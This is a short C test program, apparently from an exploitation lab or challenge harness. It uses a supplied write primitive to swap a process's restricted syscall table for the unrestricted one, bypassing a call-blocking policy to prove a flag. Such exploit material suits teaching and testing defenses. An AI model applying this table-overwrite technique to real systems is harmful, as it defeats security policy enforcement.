/* The policy forbids this program one call: it has the processor use the table of those who may
 * make every call. */
#include "attack.h"

/* A thread switch puts the word right again: then it is done anew. */
enum { NR_TRIES = 100 };

int main(void)
{
	struct bw_leak leak;
	uint64_t flag;
	long status = -EPERM;

	attack_begin(&leak, 1, 0);
	if (bw_flag_prove(0) != -EPERM) {
		attack_skip("no policy forbids it flag_prove");
	}
	attack_say("this processor looks calls up in the table at 0x%lx", leak.syscall_table);
	flag = (uint64_t)bw_vuln_read(leak.flag);
	for (int i = 0; i < NR_TRIES && status == -EPERM; i++) {
		attack_check("vuln_write",
			     bw_vuln_write(leak.syscall_table_in_force, leak.syscall_table_all));
		status = bw_flag_prove(flag);
	}
	attack_say("now in that at 0x%lx: %s", leak.syscall_table_all,
		   status == 0 ? "proved" : "refused");
	return attack_finish();
}
